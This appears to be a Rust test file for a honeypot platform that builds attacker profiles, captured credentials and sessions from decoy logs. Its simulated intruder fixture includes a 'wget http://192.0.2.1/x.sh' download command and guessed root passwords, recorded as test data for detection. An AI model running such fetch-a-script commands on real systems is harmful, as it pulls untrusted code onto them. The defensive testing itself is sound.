//! What is derived from logs of attackers, and that each log counts once.

use std::collections::BTreeMap;

use aegis_db::now;
use aegis_error::{Code, Failure};
use aegis_proto::deception::v1::{
    self as pb, attacker_service_client::AttackerServiceClient, attacker_service_server::AttackerServiceServer,
};
use aegis_rpc::RpcService;
use chrono::{DateTime, TimeDelta, Utc};
use tokio_util::sync::CancellationToken;
use tonic::body::Body;
use tower::ServiceExt;

use super::*;
use crate::{
    app::{
        follow::{Follower, Step},
        intake::sound,
    },
    domain::event::{Raw, RawFields},
    rpc::Rpc,
    store,
};

/// Attackers at work: their events, told one after the other.
pub(super) struct Scene {
    pub(super) app: Arc<App>,
    pub(super) follower: Follower,
    pub(super) start: DateTime<Utc>,
    _folder: TempDir,
}

/// An event `at` seconds from the start.
pub(super) fn event(ip: &str, at: i64, decky: &str, service: &str, kind: &str, fields: &[(&str, &str)]) -> (i64, Raw) {
    let fields = fields.iter().map(|(key, value)| ((*key).to_owned(), (*value).to_owned())).collect();
    let raw = Raw {
        decky: decky.into(),
        service: service.into(),
        event_type: kind.into(),
        attacker_ip: ip.into(),
        attacker_port: 40_000,
        session_id: format!("{ip}-{decky}-{service}").replace(':', "-"),
        msg: format!("{kind} on {service}"),
        fields: RawFields::Pairs(fields),
        ..Raw::default()
    };
    (at, raw)
}

impl Scene {
    pub(super) fn new(db: &Db) -> Self {
        let config = Config { developer: true, ..Config::default() };
        let (app, folder) = app_with(db, config);
        Scene { app, follower: Follower::new(), start: now() - TimeDelta::hours(12), _folder: folder }
    }

    /// Stores events without deriving anything.
    pub(super) async fn store(&self, events: Vec<(i64, Raw)>) {
        let events = events.into_iter().map(|(at, raw)| {
            let (at, id) = (Some(self.start + TimeDelta::seconds(at)), Some(uuid::Uuid::now_v7()));
            Raw { at, id, ..raw }
        });
        let events = sound(events.collect(), |_| Vec::new(), self.app.sigma.now()).await.unwrap();
        self.app.intake.store(events, None).await.unwrap();
    }

    /// Derives what follows from all that is stored.
    pub(super) async fn follow(&mut self) {
        while self.follower.step(&self.app).await.unwrap() != Step::Done {}
    }

    /// Stores events and derives what follows.
    pub(super) async fn tell(&mut self, events: Vec<(i64, Raw)>) {
        self.store(events).await;
        self.follow().await;
    }

    /// A client whose calls come from `ctx`.
    pub(super) fn client(&self, ctx: OpCtx) -> AttackerServiceClient<RpcService> {
        let server = AttackerServiceServer::new(Rpc::new(Arc::clone(&self.app)));
        AttackerServiceClient::new(aegis_rpc::local(server.map_request(move |mut request: http::Request<Body>| {
            request.extensions_mut().insert(ctx.clone());
            request
        })))
    }

    async fn list(&self, search: &str, service: &str, sort_by: &str) -> Result<Vec<pb::Attacker>, Failure> {
        let (search, service, sort_by) = (search.to_owned(), service.to_owned(), sort_by.to_owned());
        let request = pb::ListAttackersRequest { search, service, sort_by, ..pb::ListAttackersRequest::default() };
        let answer = self.client(viewer()).list_attackers(request).await?.into_inner();
        assert_eq!(answer.total_size, answer.attackers.len() as i64);
        Ok(answer.attackers)
    }

    pub(super) async fn ips(&self, search: &str, service: &str, sort_by: &str) -> Vec<String> {
        self.list(search, service, sort_by).await.unwrap().into_iter().map(|attacker| attacker.ip).collect()
    }

    /// The attacker with that address, as `GetAttacker` tells.
    async fn attacker(&self, ip: &str) -> pb::Attacker {
        let uuid = self.list(&format!("attacker:{ip}"), "", "").await.unwrap().remove(0).uuid;
        let request = pb::GetAttackerRequest { uuid };
        self.client(viewer()).get_attacker(request).await.unwrap().into_inner().attacker.unwrap()
    }

    async fn bounty(&self, bounty_type: &str, search: &str) -> Vec<pb::Bounty> {
        let (bounty_type, search) = (bounty_type.to_owned(), search.to_owned());
        let request = pb::ListBountyRequest { bounty_type, search, ..pb::ListBountyRequest::default() };
        let answer = self.client(viewer()).list_bounty(request).await.unwrap().into_inner();
        assert_eq!(answer.total_size, answer.bounties.len() as i64);
        answer.bounties
    }
}

fn viewer() -> OpCtx {
    ctx(Role::Viewer, "vera")
}

const BANNER: (&str, &str) = ("client_banner", "SSH-2.0-libssh2_1.10.0");
const HASSH: (&str, &str) = ("hassh", "92674389fa1e47a27ddd8d9b63ecd42b");

/// One who guesses a password, looks around and leaves a file; then goes on to another decky.
fn intruder(ip: &str) -> Vec<(i64, Raw)> {
    let guess = |password| [("username", "root"), ("password", password), BANNER, HASSH];
    vec![
        event(ip, 0, "web-01", "ssh", "connect", &[("dst_port", "22")]),
        event(ip, 1, "web-01", "ssh", "auth_fail", &guess("admin")),
        event(ip, 2, "web-01", "ssh", "auth_fail", &guess("12345")),
        event(ip, 3, "web-01", "ssh", "auth_success", &guess("123456")),
        event(ip, 10, "web-01", "ssh", "command", &[("command", "uname -a")]),
        event(ip, 30, "web-01", "ssh", "command", &[("command", "wget http://192.0.2.1/x.sh")]),
        event(
            ip,
            31,
            "web-01",
            "ssh",
            "file_captured",
            &[
                ("name", "x.sh"),
                ("path", "/tmp/x.sh"),
                ("sha256", &"ab".repeat(32)),
                ("size", "12"),
                ("stored_as", "s"),
            ],
        ),
        event(ip, 60, "web-01", "ssh", "disconnect", &[BANNER, HASSH]),
        event(ip, 100, "db-01", "mysql", "connect", &[]),
        event(ip, 101, "db-01", "mysql", "auth_success", &[("username", "root"), ("password", "")]),
        event(ip, 102, "db-01", "mysql", "query", &[("query", "SELECT * FROM users")]),
    ]
}

#[tokio::test]
async fn an_attacker_has_a_profile_of_all_that_it_did() {
    for test in stores().await {
        let mut scene = Scene::new(&test.db);
        scene.tell(intruder("203.0.113.9")).await;
        let attacker = scene.attacker("203.0.113.9").await;
        assert_eq!((attacker.event_count, attacker.service_count, attacker.decky_count), (11, 2, 2), "{}", test.name);
        assert_eq!((attacker.services.as_slice(), attacker.is_traversal), (&["ssh".into(), "mysql".into()][..], true));
        assert_eq!(attacker.traversal_path, "web-01 → db-01");
        assert_eq!((attacker.bounty_count, attacker.credential_count), (7, 4), "{}", test.name);
        assert_eq!(attacker.fingerprints.len(), 2);
        assert_eq!(attacker.last_seen.unwrap().seconds - attacker.first_seen.unwrap().seconds, 102);
        let behavior = attacker.behavior.unwrap();
        assert_eq!((behavior.event_count, behavior.duration_s, behavior.mean_iat_s), (11, 102.0, Some(10.2)));
        assert_eq!(behavior.median_iat_s, Some(1.0));
        assert_eq!(behavior.behavior_class, "slow_scan");
        assert_eq!(behavior.beacon_interval_s, None);
        assert_eq!(behavior.tool_guesses, ["libssh2"]);
        assert_eq!(
            behavior.phase_sequence,
            ["recon", "credential_access", "initial_access", "discovery", "command_and_control", "collection"]
        );
        test.close().await;
    }
}

#[tokio::test]
async fn commands_files_and_sessions_are_listed_with_their_attacker() {
    for test in stores().await {
        let mut scene = Scene::new(&test.db);
        scene.tell(intruder("203.0.113.9")).await;
        scene.tell(intruder("203.0.113.10")).await;
        let uuid = scene.attacker("203.0.113.9").await.uuid;
        let mut client = scene.client(viewer());

        let ask = |service: &str, page_size| pb::ListAttackerCommandsRequest {
            uuid: uuid.clone(),
            page_size,
            service: service.into(),
            ..pb::ListAttackerCommandsRequest::default()
        };
        let all = client.list_attacker_commands(ask("", 0)).await.unwrap().into_inner();
        let texts: Vec<_> = all.commands.iter().map(|command| command.command.as_str()).collect();
        assert_eq!(texts, ["SELECT * FROM users", "wget http://192.0.2.1/x.sh", "uname -a"], "{}", test.name);
        assert_eq!((all.total_size, all.next_page_token.as_str()), (3, ""));
        let ssh = client.list_attacker_commands(ask("ssh", 1)).await.unwrap().into_inner();
        assert_eq!((ssh.total_size, ssh.commands[0].command.as_str()), (2, "wget http://192.0.2.1/x.sh"));
        let next = pb::ListAttackerCommandsRequest { page_token: ssh.next_page_token, ..ask("ssh", 1) };
        let next = client.list_attacker_commands(next).await.unwrap().into_inner();
        assert_eq!((next.commands[0].command.as_str(), next.next_page_token.as_str()), ("uname -a", ""));
        assert_eq!(client.list_attacker_commands(ask("ftp", 0)).await.unwrap().into_inner().total_size, 0);
        let failure = Failure::from(client.list_attacker_commands(ask("", 201)).await.unwrap_err());
        assert_eq!(failure.fields()[0].field, "limit");

        let request = pb::ListAttackerArtifactsRequest { uuid: uuid.clone(), ..Default::default() };
        let files = client.list_attacker_artifacts(request).await.unwrap().into_inner();
        assert_eq!((files.total_size, files.logs[0].event_type.as_str()), (1, "file_captured"), "{}", test.name);

        let request = pb::ListAttackerSessionsRequest { uuid: uuid.clone(), ..Default::default() };
        let sessions = client.list_attacker_sessions(request).await.unwrap().into_inner();
        assert_eq!(sessions.total_size, 2, "{}", test.name);
        let [mysql, ssh] = &sessions.sessions[..] else { panic!("{sessions:?}") };
        assert_eq!((mysql.service.as_str(), mysql.event_count, mysql.command_count), ("mysql", 3, 1));
        assert_eq!((ssh.username.as_str(), ssh.event_count, ssh.command_count), ("root", 8, 2));
        assert!(ssh.ended_at.is_some() && mysql.ended_at.is_none() && !ssh.recorded);
        for session_id in [ssh.id.as_str(), "no such\0session"] {
            let request = pb::ReadRecordingRequest { uuid: uuid.clone(), session_id: session_id.into() };
            let failure = Failure::from(client.read_recording(request).await.err().unwrap());
            assert_eq!(failure.code(), Code::NotFound, "{failure}");
        }
        let nobody = pb::GetAttackerRequest { uuid: uuid::Uuid::now_v7().to_string() };
        assert_eq!(Failure::from(client.get_attacker(nobody).await.unwrap_err()).code(), Code::NotFound);
        let nonsense = pb::GetAttackerRequest { uuid: "x".into() };
        assert_eq!(Failure::from(client.get_attacker(nonsense).await.unwrap_err()).code(), Code::Validation);
        test.close().await;
    }
}

#[tokio::test]
async fn a_bounty_is_one_row_for_each_attacker_and_content() {
    for test in stores().await {
        let mut scene = Scene::new(&test.db);
        scene.tell(intruder("203.0.113.9")).await;
        scene.tell(intruder("203.0.113.9")).await;
        scene.tell(intruder("2001:db8::7")).await;
        assert_eq!(scene.bounty("", "").await.len(), 14, "{}", test.name);
        let passwords = scene.bounty("credential", "attacker:203.0.113.9 service:ssh").await;
        assert_eq!(passwords.len(), 3, "{}", test.name);
        assert!(passwords.iter().all(|bounty| bounty.count == 2), "{passwords:?}");
        let first = &passwords[0];
        assert_eq!(first.payload_json, r#"{"password":"123456","username":"root"}"#, "{}", test.name);
        assert_eq!((first.decky.as_str(), first.bounty_type.as_str()), ("web-01", "credential"));
        let files = scene.bounty("payload", "").await;
        assert_eq!(files.len(), 2, "{}", test.name);
        let payload: BTreeMap<String, String> = serde_json::from_str(&files[0].payload_json).unwrap();
        assert_eq!(
            (payload["name"].as_str(), payload["size"].as_str(), payload["stored_as"].as_str()),
            ("x.sh", "12", "s")
        );
        for (search, found) in [
            ("password:12345", 2),
            ("username:root", 8),
            ("username:root password:admin attacker:2001:db8::7", 1),
            ("hassh:92674389fa1e47a27ddd8d9b63ecd42b", 2),
            ("kind:client_banner", 2),
            ("LIBSSH2", 2),
            ("decky:db-01", 2),
            ("event:connect", 0),
            ("nonsense:1", 0),
            ("100%", 0),
            ("\"X.SH\"", 2),
        ] {
            assert_eq!(scene.bounty("", search).await.len(), found, "{search} on {}", test.name);
        }
        let request = pb::ListBountyRequest { bounty_type: "gold".into(), ..Default::default() };
        let failure = Failure::from(scene.client(viewer()).list_bounty(request).await.unwrap_err());
        assert_eq!(failure.fields()[0].field, "bounty_type");
        test.close().await;
    }
}

#[tokio::test]
async fn attackers_are_found_and_ordered() {
    for test in stores().await {
        let mut scene = Scene::new(&test.db);
        scene.tell(intruder("203.0.113.9")).await;
        let agent = [("user_agent", "Mozilla/5.0 (compatible; Nmap Scripting Engine)")];
        let noise = (0..40).map(|at| event("203.0.113.10", 200 + at, "web-01", "http", "request", &agent));
        scene.tell(noise.collect()).await;
        scene.tell(vec![event("2001:db8::7", 500, "mail-01", "smtp", "connect", &[])]).await;
        let (nine, ten, seven) = ("203.0.113.9", "203.0.113.10", "2001:db8::7");
        assert_eq!(scene.ips("", "", "").await, [seven, ten, nine], "{}", test.name);
        assert_eq!(scene.ips("", "", "active").await, [ten, nine, seven], "{}", test.name);
        assert_eq!(scene.ips("", "", "traversals").await, [nine, seven, ten], "{}", test.name);
        assert_eq!(scene.ips("", "mysql", "").await, [nine], "{}", test.name);
        let uuid = scene.attacker(ten).await.uuid;
        for (search, found) in [
            ("attacker:2001:db8:0::7", vec![seven]),
            ("decky:web-01", vec![ten, nine]),
            ("decky:web-01 service:mysql", vec![nine]),
            ("event:request", vec![ten]),
            ("tool:nmap", vec![ten]),
            ("hassh:92674389fa1e47a27ddd8d9b63ecd42b", vec![nine]),
            ("behavior:brute_force", vec![ten]),
            ("username:root", vec![nine]),
            ("password:nothing", vec![]),
            ("nonsense:1", vec![]),
            ("attacker_port:40000", vec![]),
            ("session:203.0.113.9-web-01-ssh", vec![nine]),
            ("NMAP", vec![ten]),
            ("203.0.113.", vec![ten, nine]),
            ("203_0", vec![]),
            (&format!("uuid:{uuid}"), vec![ten]),
        ] {
            assert_eq!(scene.ips(search, "", "").await, found, "{search} on {}", test.name);
        }
        for (search, service, sort_by, field) in
            [("\0", "", "", "search"), ("", "a\0", "", "service"), ("", "", "best", "sort_by")]
        {
            let failure = scene.list(search, service, sort_by).await.unwrap_err();
            assert_eq!((failure.code(), failure.fields()[0].field.as_str()), (Code::Validation, field));
        }
        test.close().await;
    }
}

/// All that is told of attackers but what is made up: ids.
async fn derived(scene: &Scene) -> (Vec<pb::Attacker>, Vec<pb::Bounty>, Vec<pb::Session>) {
    let mut attackers = scene.list("", "", "").await.unwrap();
    attackers.sort_by(|one, two| one.ip.cmp(&two.ip));
    let mut bounties = scene.bounty("", "").await;
    bounties.iter_mut().for_each(|bounty| bounty.id = 0);
    let key = |bounty: &pb::Bounty| (bounty.attacker_ip.clone(), bounty.service.clone(), bounty.payload_json.clone());
    bounties.sort_by_key(key);
    let mut sessions = Vec::new();
    for attacker in &mut attackers {
        let request =
            pb::ListAttackerSessionsRequest { uuid: std::mem::take(&mut attacker.uuid), ..Default::default() };
        sessions.extend(scene.client(viewer()).list_attacker_sessions(request).await.unwrap().into_inner().sessions);
    }
    (attackers, bounties, sessions)
}

#[tokio::test]
async fn what_is_derived_step_by_step_is_what_is_derived_anew() {
    for test in stores().await {
        let mut scene = Scene::new(&test.db);
        for (place, event) in intruder("203.0.113.9").into_iter().chain(intruder("203.0.113.10")).enumerate() {
            scene.store(vec![event]).await;
            match place % 3 {
                0 => scene.follow().await,
                // Another process goes on.
                1 => {
                    store::follow::end_lease(&test.db).await.unwrap();
                    scene.follower = Follower::new();
                    scene.follow().await;
                }
                _ => {}
            }
        }
        scene.follow().await;
        let stepwise = derived(&scene).await;
        assert_eq!(stepwise.0.len(), 2, "{}", test.name);
        assert_eq!(stepwise.0[0].event_count, 11, "{}", test.name);
        store::follow::rebuild(&test.db).await.unwrap();
        store::follow::end_lease(&test.db).await.unwrap();
        scene.follower = Follower::new();
        scene.follow().await;
        assert_eq!(derived(&scene).await, stepwise, "{}", test.name);
        test.close().await;
    }
}

#[tokio::test]
async fn attackers_are_counted_as_they_come() {
    for test in stores().await {
        let mut scene = Scene::new(&test.db);
        let counted = async || store::follow::attackers(&test.db).await.unwrap();
        for (number, ip) in ["203.0.113.9", "203.0.113.10", "203.0.113.9", "203.0.113.11"].into_iter().enumerate() {
            scene.tell(intruder(ip)).await;
            assert_eq!(counted().await, [1, 2, 2, 3][number], "{}", test.name);
        }
        assert_eq!(scene.list("", "", "").await.unwrap().len(), 3);
        // An earlier version followed meanwhile, and did not count.
        let mut tx = test.db.begin().await.unwrap();
        aegis_db::on!(tx, |c| sqlx::query("UPDATE log_follower SET attackers = 1").execute(c).await.map(drop)).unwrap();
        tx.commit().await.unwrap();
        store::follow::end_lease(&test.db).await.unwrap();
        scene.follower = Follower::new();
        scene.tell(intruder("203.0.113.12")).await;
        assert_eq!(counted().await, 4, "{}", test.name);
        store::follow::rebuild(&test.db).await.unwrap();
        assert_eq!(counted().await, 0, "{}", test.name);
        store::follow::end_lease(&test.db).await.unwrap();
        scene.follower = Follower::new();
        scene.follow().await;
        assert_eq!(counted().await, 4, "{}", test.name);
        test.close().await;
    }
}

#[tokio::test]
async fn one_follows_at_a_time_and_each_log_counts_once() {
    for test in stores().await {
        let mut scene = Scene::new(&test.db);
        let mut other = Follower::new();
        scene.tell(intruder("203.0.113.9")).await;
        scene.store(intruder("203.0.113.9")).await;
        assert_eq!(other.step(&scene.app).await.unwrap(), Step::Other, "{}", test.name);
        // The lease has ended; the first one does not know yet.
        store::follow::end_lease(&test.db).await.unwrap();
        assert_eq!(other.step(&scene.app).await.unwrap(), Step::Done, "{}", test.name);
        assert_eq!(scene.attacker("203.0.113.9").await.event_count, 22, "{}", test.name);
        scene.store(intruder("203.0.113.9")).await;
        while scene.follower.step(&scene.app).await.unwrap() != Step::Other {}
        assert_eq!(scene.attacker("203.0.113.9").await.event_count, 22, "{}", test.name);
        assert_eq!(other.step(&scene.app).await.unwrap(), Step::Done, "{}", test.name);
        assert_eq!(scene.attacker("203.0.113.9").await.event_count, 33, "{}", test.name);
        test.close().await;
    }
}

#[tokio::test]
async fn nothing_comes_back_after_a_purge() {
    for test in stores().await {
        let mut scene = Scene::new(&test.db);
        scene.tell(intruder("203.0.113.9")).await;
        scene.store(intruder("203.0.113.10")).await;
        let purged = scene.app.purge_logs(&admin()).await.unwrap();
        assert_eq!((purged.logs, purged.bounties), (22, 7), "{}", test.name);
        scene.follow().await;
        assert_eq!(scene.ips("", "", "").await, Vec::<String>::new(), "{}", test.name);
        assert_eq!(scene.bounty("", "").await, [], "{}", test.name);
        // What comes later begins anew, whatever the follower had in mind.
        scene.tell(intruder("203.0.113.9")).await;
        assert_eq!(scene.attacker("203.0.113.9").await.event_count, 11, "{}", test.name);
        assert_eq!(scene.app.list_alerts(&viewer(), 0, "", 0).await.unwrap().2, 4, "{}", test.name);
        test.close().await;
    }
}

#[tokio::test]
async fn a_log_that_cannot_be_taken_in_stops_no_other() {
    let test = stores().await.remove(0);
    let scene = Scene::new(&test.db);
    let Db::Sqlite(sqlite) = &test.db else { panic!("the first one is SQLite") };
    let refuse = "CREATE TRIGGER refuse BEFORE INSERT ON attacker_session WHEN NEW.service = 'smtp' \
                  BEGIN SELECT RAISE(ABORT, 'refused'); END";
    sqlx::query(refuse).execute(&sqlite.write).await.unwrap();
    scene.store(intruder("203.0.113.9")).await;
    scene.store(vec![event("2001:db8::7", 500, "mail-01", "smtp", "connect", &[])]).await;
    scene.store(intruder("203.0.113.10")).await;
    let stop = CancellationToken::new();
    let task = tokio::spawn(Arc::clone(&scene.app).follow(stop.clone()));
    while store::follow::place(&test.db).await.unwrap().position < 23 {
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
    assert_eq!(scene.ips("", "", "").await.len(), 2);
    assert_eq!(scene.attacker("203.0.113.10").await.event_count, 11);
    // And what comes later is taken in without being asked for.
    scene.store(intruder("203.0.113.9")).await;
    while store::follow::place(&test.db).await.unwrap().position < 34 {
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
    assert_eq!(scene.attacker("203.0.113.9").await.event_count, 22);
    stop.cancel();
    task.await.unwrap();
    test.close().await;
}

/// Not a test: says how many logs a second are followed. Of use with `opt-level=2` for this crate.
#[tokio::test]
#[ignore = "a measurement"]
async fn how_fast_logs_are_followed() {
    for test in stores().await {
        let mut scene = Scene::new(&test.db);
        // Sessions of six logs: five hundred attackers guess passwords on fifty deckies.
        for part in 0..8_i64 {
            let events = (0..5_000_i64).map(|place| {
                let session = part * 834 + place / 6;
                let (ip, decky) =
                    (format!("10.0.{}.{}", session % 500 / 250, session % 250), format!("d-{}", session % 50));
                let password = format!("p{}", session * 7 % 5_000);
                let guess = [("username", "root"), ("password", password.as_str()), BANNER, HASSH];
                let (at, raw) = match place % 6 {
                    0 => event(&ip, place, &decky, "ssh", "connect", &[("dst_port", "22")]),
                    3 => event(&ip, place, &decky, "ssh", "command", &[("command", "uname -a")]),
                    5 => event(&ip, place, &decky, "ssh", "disconnect", &[BANNER, HASSH]),
                    _ => event(&ip, place, &decky, "ssh", "auth_fail", &guess),
                };
                (at + part * 5_000, Raw { session_id: format!("session-{session}"), ..raw })
            });
            scene.store(events.collect()).await;
        }
        let began = std::time::Instant::now();
        scene.follow().await;
        println!("{}: {:.0} logs/s", test.name, 40_000.0 / began.elapsed().as_secs_f64());
        test.close().await;
    }
}
